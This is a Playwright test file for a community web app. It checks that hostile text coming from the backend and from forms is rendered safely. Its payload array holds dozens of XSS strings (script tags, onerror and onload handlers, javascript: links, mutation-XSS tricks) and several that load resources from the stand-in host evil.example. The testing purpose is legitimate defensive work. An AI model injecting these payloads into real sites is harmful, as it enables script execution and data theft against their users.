import type { Page } from '@playwright/test';
import { type CallName, calls } from '../mocks/wire/calls';
import { type App, expect, IN_SEASON, POLICY_NOTES, test } from './support/app';
import { fillIn, forms, openForm, submit } from './support/forms';
import { waitForScreen } from './support/pageActions';
import { openAs } from './support/signInHelpers';
import { waitForReads } from './support/waitForReads';

/**
 * Hostile texts that try to run a script, to load a foreign file or to break out of their element. A script that runs sets
 * `window.__hacked`; a foreign file is requested from evil.example.
 */
const payloads: readonly string[] = [
  '<script>window.__hacked=1</script>',
  '"><script>window.__hacked=1</script>',
  "'><script>window.__hacked=1</script>",
  '</title></textarea></style><script>window.__hacked=1</script>',
  '<scr<script>ipt>window.__hacked=1</scr</script>ipt>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="window.__hacked=1">',
  '<img src=x onerror=window.__hacked=1//',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a 1x" src=x>',
  '<svg onload="window.__hacked=1"></svg>',
  '<svg><script>window.__hacked=1</script></svg>',
  '<svg><animate onbegin="window.__hacked=1" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.__hacked=1"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>top.__hacked=1</script>"></iframe></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror="window.__hacked=1">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hacked=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.__hacked=1>">',
  '<iframe src="javascript:parent.__hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="javascript:window.__hacked=1"></object>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<body onload="window.__hacked=1">',
  '<p onclick="window.__hacked=1" onmouseover="window.__hacked=1">p</p>',
  '<b style="background:url(https://evil.example/b)">b</b>',
  '<div style="position:fixed;inset:0;z-index:9999">over everything</div>',
  '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/l.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<a href="javascript:window.__hacked=1">link</a>',
  '<a href="java\tscript:window.__hacked=1">link</a>',
  '<a href="&#106;avascript:window.__hacked=1">link</a>',
  '<a href=" javascript:window.__hacked=1" target="_self">link</a>',
  '<a href="data:text/html,<script>opener.__hacked=1</script>">link</a>',
  '<a href="vbscript:window.__hacked=1">link</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">link</a>',
  '<form action="https://evil.example/"><input name=password autofocus onfocus="window.__hacked=1"></form>',
  '<input autofocus onfocus="window.__hacked=1"><button formaction="javascript:window.__hacked=1">b</button>',
  '<details open ontoggle="window.__hacked=1"><summary>s</summary></details>',
  '<video><source onerror="window.__hacked=1"></video><audio src=x onerror="window.__hacked=1">',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
  '<marquee onstart="window.__hacked=1">m</marquee>',
  '<template><script>window.__hacked=1</script></template>',
  '<p id="root"></p><p id="main" name="firstCalls"></p>',
  '<!--><script>window.__hacked=1</script>-->',
  '<![CDATA[<script>window.__hacked=1</script>]]>',
  '<?xml version="1.0"?><x onclick="window.__hacked=1">x</x>',
  '&lt;script&gt;window.__hacked=1&lt;/script&gt; &amp; &quot;',
  'javascript:window.__hacked=1',
  '${window.__hacked=1} {{constructor.constructor("window.__hacked=1")()}} #{7*7} <%= 7*7 %>',
  '"-(window.__hacked=1)-" \'-(window.__hacked=1)-\' `-(window.__hacked=1)-`',
  '\\u003cscript\\u003ewindow.__hacked=1\\u003c/script\\u003e',
  '__proto__',
  'constructor',
  'abc\u202Egnp.exe\u202C \u2066x\u2069 \u200Fא',
  'Z\u0351\u036B\u0343a\u0334\u0318l\u0336go \u{1F469}\u200D\u{1F469}\u200D\u{1F466} \uD83D',
  'Wolfeschlegelsteinhausenbergerdorff'.repeat(8),
];

/**
 * All payloads in one text. A place that rendered one of them as HTML would no longer contain the whole text. Some payloads, such
 * as an address or the name of a property, work only alone, so each row and each policy has a single payload.
 */
const allPayloads = payloads.join(' ');

test.use({
  startsAt: IN_SEASON,
  // Animations take time and do not matter to these tests.
  contextOptions: { reducedMotion: 'reduce' },
  expectedConsole: new RegExp(`status of 400|${POLICY_NOTES.source}`),
});

/** The dialogs, windows and foreign requests of a test. Only a payload can cause them. */
let alarms: string[] = [];

test.beforeEach(({ page, context, app }) => {
  alarms = [];
  page.on('dialog', (dialog) => {
    alarms.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('request', (request) => {
    if (!request.url().startsWith(app.url)) alarms.push(`request: ${request.url()}`);
  });
  page.on('popup', () => alarms.push('popup'));
});

/** Traces of scripts that have run, and elements with an event handler, with a script address, or not allowed in rich text. */
const dangerousElements = (page: Page) =>
  page.evaluate(() => {
    const schemes = ['javascript:', 'data:', 'vbscript:'];
    const found: string[] = ['hacked', '__hacked']
      .filter((name) => Object.hasOwn(window, name))
      .map((name) => `a script has set ${name}`);
    for (const element of document.querySelectorAll('*'))
      for (const { name, value } of element.attributes) {
        // A browser ignores blanks and control characters before and within a scheme.
        const address = value.replace(/[^!-~]/g, '').toLowerCase();
        if (name.startsWith('on')) found.push(element.outerHTML);
        if (schemes.some((scheme) => address.startsWith(scheme)) && name !== 'value')
          found.push(element.outerHTML);
      }
    const forbidden =
      '.rich-text :is(script, style, iframe, object, embed, img, svg, math, form, input, button, link, meta, base, video, audio, template, [style], [id], [class]:not(.rich-text__heading), [ping])';
    for (const element of document.querySelectorAll(forbidden)) found.push(element.outerHTML);
    for (const link of document.querySelectorAll('.rich-text a[href]'))
      if (link.getAttribute('rel') !== 'noopener noreferrer') found.push(link.outerHTML);
    return found;
  });

async function expectHarmless(page: Page, app: App) {
  expect(await dangerousElements(page)).toEqual([]);
  expect(alarms).toEqual([]);
  expect(page.url().startsWith(app.url)).toBe(true);
}

type Json = Record<string, unknown>;

/** Changes each answer of a call before the page receives it. */
async function changeAnswers(page: Page, call: CallName, change: (answer: Json) => Json) {
  const path = calls[call].path.replace(/:.*/, '');
  await page.route(new RegExp(path), async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, json: change(await response.json()) });
  });
}

async function open(page: Page, app: App, path: string) {
  await page.goto(app.url + path);
  await waitForScreen(page);
  await waitForReads(page);
  await expectHarmless(page, app);
}

const texts = (page: Page, selector: string) => page.locator(selector).allTextContents();

const screens = ['/', '/units-open', '/policies', '/account', '/contact', '/winterize', '/dewinterize'];

test.describe('in the scenario with hostile texts', () => {
  test.use({ scenario: 'hostile' });

  test(
    'no screen runs a script from the scenario, and the home shows the name of the member as text',
    { tag: '@daily' },
    async ({ page, app }) => {
      await openAs('demo', page, app, '/');
      const name = 'Welcome <script>window.hacked = true</script> abc\u202Egnp.exe';
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);
      for (const path of screens) await open(page, app, path);
    },
  );
});

test('every text of the backend is shown as text, and no screen runs a script from it', async ({
  page,
  app,
}) => {
  const holidayNames = payloads.slice(0, 12); // Each has a card on the home, which takes time.
  await changeAnswers(page, 'getUser', (user) => ({
    ...user,
    ...Object.fromEntries(
      ['first_name', 'last_name', 'email', 'phone', 'username', 'unit'].map((name) => [name, allPayloads]),
    ),
    notificationMethod: allPayloads,
    upcomingShabbos: allPayloads,
    upcomingHolidays: holidayNames.map((text, index) => ({
      name: text,
      displayName: text,
      date: `2026-11-${index + 10}`,
      emoji: text,
      rocordId: text,
    })),
  }));
  await changeAnswers(page, 'getColony', (colony) => ({
    ...colony,
    name: allPayloads,
    email: allPayloads,
    shulOpenAt: [allPayloads],
    notes: [...payloads, '<b>the end</b>'].map((text) => ({ _id: text, content: text })),
    policies: payloads.map((text) => ({ _id: text, title: text, content: `${text}<b>the end</b>` })),
  }));
  const rows = payloads.map((text, index) => ({
    _id: text,
    user_id: text,
    user_name: text,
    unit: text,
    poeple_count: 1,
    reservedMussaf: index === 0,
    baalKorah: index < 2,
    preparedFor: index === 0 ? '1-4' : '5-end',
  }));
  await changeAnswers(page, 'getMinyan', () => ({
    upcomingShabbos: rows,
    upcomingHolidays: holidayNames.map((text) => ({ date_title: text, users: rows.slice(0, 3) })),
    futureShabbos: [{ date: '2026-11-07', users: rows }],
  }));

  await openAs('demo', page, app, '/');
  await expect(page.getByText('the end')).toBeVisible();
  const lead = 'sign up for minyan for ';
  const titles = (await texts(page, '.event-panel h2')).filter((title) => title.startsWith(lead));
  expect(titles.map((title) => title.slice(lead.length))).toEqual(holidayNames);
  await expect(page.getByText(`Reserved by ${payloads[0]}`).first()).toBeVisible();
  expect(await texts(page, 'h1')).toEqual([`Welcome ${allPayloads} ${allPayloads}`]);

  await open(page, app, '/units-open');
  // The test uses the keyboard, because the button moves down until the tables above it have all their rows and fonts.
  await page.getByRole('button', { name: 'Show future Shabbosim signups' }).press('Enter');
  for (const table of [page.getByRole('table').first(), page.getByRole('table').last()]) {
    await expect(table.getByRole('row')).toHaveCount(payloads.length + 1);
    expect(await table.locator('tbody th bdi').allTextContents()).toEqual(payloads);
    expect(await table.locator('tbody td:nth-of-type(1)').allTextContents()).toEqual(payloads);
  }
  await expectHarmless(page, app);

  await open(page, app, '/policies');
  await expect(page.getByText('the end').first()).toBeVisible();
  expect(await texts(page, 'h2 bdi')).toEqual(payloads);

  await open(page, app, '/account');
  for (const label of ['Username', 'Unit', 'Last name', 'Email'])
    await expect(page.getByLabel(label, { exact: true })).toHaveValue(allPayloads);
  await open(page, app, '/contact');
  expect(await texts(page, 'main dd')).toContain(allPayloads);
  for (const path of screens) await open(page, app, path);
});

test('a hostile username in an invitation and a hostile reason of a refusal are shown as text', async ({
  page,
  app,
}) => {
  await changeAnswers(page, 'verifyJoinToken', () => ({ suggestedUsername: allPayloads }));
  await open(page, app, '/join/join-valid');
  await expect(page.getByLabel('Username')).toHaveValue(allPayloads);
  const form = forms.forgottenPassword;
  await page.route(`**${calls[form.call].path}`, (route) =>
    route.fulfill({ status: 400, json: { error: allPayloads } }),
  );
  await openForm(form, page, app);
  await fillIn(form, page);
  await submit(form, page);
  await expect.poll(() => texts(page, '.form-status__error')).toContain(allPayloads);
  await expectHarmless(page, app);
});
